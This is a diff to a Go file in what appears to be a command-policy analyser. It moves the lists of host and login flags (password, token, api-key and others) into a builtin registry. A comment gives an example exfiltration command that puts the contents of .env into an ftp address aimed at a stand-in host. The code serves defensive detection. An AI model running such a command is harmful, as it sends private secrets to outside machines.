@@ -3,6 +3,7 @@ package fileops
 import (
 	"strings"
 
+	"github.com/sluice-project/sluice/policy/command"
 	"github.com/sluice-project/sluice/policy/effect"
 	"github.com/sluice-project/sluice/policy/follow"
 	"github.com/sluice-project/sluice/policy/invocation"
@@ -20,10 +21,6 @@ func Tell(a *invocation.Act, host, source string) {
 	a.Add(effect.Effect{Verb: effect.Send, Object: host, From: source})
 }
 
-// hostFlags are the flags by which programs are told which machine to talk to.
-var hostFlags = invocation.Valued(`h H host hostname s server servers endpoint endpoints endpoint-url address addr http-addr registry registry-url i index-url extra-index-url default-index index repository-url
-	uri url b broker brokers bootstrap-server bootstrap-servers connect cluster source node api-url api-server apiserver proxy`)
-
 // ToldHost is a machine elsewhere that the words name: the value of a flag for it, an
 // address, a name with a port, or a name whose first part is put in. It is empty if they
 // name none. Words after -- belong to something else.
@@ -34,7 +31,7 @@ func ToldHost(a *invocation.Act) string {
 		}
 		if body, dashes := invocation.CutDashes(arg); dashes > 0 {
 			name, value, attached := strings.Cut(body, "=")
-			if !hostFlags[name] {
+			if !command.Builtin().In("host-flags", name) {
 				continue
 			}
 			if !attached && i+1 < len(a.Args) {
@@ -75,10 +72,10 @@ func IsLogin(a *invocation.Act, i int, source, host string) bool {
 	}
 	body, dashes := invocation.CutDashes(word)
 	name, _, _ := strings.Cut(body, "=")
-	login := dashes > 0 && loginWords[name] || strings.Contains(word, "://") && strings.Contains(word, "@")
+	login := dashes > 0 && command.Builtin().In("login-flags", name) || strings.Contains(word, "://") && strings.Contains(word, "@")
 	if i > 0 && dashes == 0 {
 		body, dashes := invocation.CutDashes(a.Args[i-1])
-		login = login || dashes > 0 && loginWords[body]
+		login = login || dashes > 0 && command.Builtin().In("login-flags", body)
 	}
 	if !login {
 		return false
@@ -90,9 +87,6 @@ func IsLogin(a *invocation.Act, i int, source, host string) bool {
 	}
 	return false
 }
-
-// loginWords are the flags by which programs are told who asks.
-var loginWords = invocation.Valued("a p P u U pass password passwd user username token auth auth-token api-key access-token")
 
 // tellsAddress notes that an address itself is made of something private:
 // ftp ftp://"$(cat .env)"@HOST.
